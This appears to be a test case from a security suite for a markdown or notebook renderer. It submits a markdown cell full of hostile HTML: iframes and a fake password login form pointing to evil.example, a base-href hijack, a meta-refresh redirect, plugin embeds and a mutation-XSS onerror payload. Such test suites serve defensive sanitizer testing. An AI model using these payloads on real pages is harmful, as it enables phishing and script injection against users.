"""Markdown cells with frames, forms, a base URL and a redirect.

Success: active content in a page.
"""

TEXT = """
<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>
<form action="https://evil.example"><input name=password><button>Log in</button></form>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
<object data="x.swf"></object><embed src="x.swf"><link rel=stylesheet href=//evil.example/x.css>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext>
"""


def attack(submission):
    submission.add(TEXT, kind="markdown")
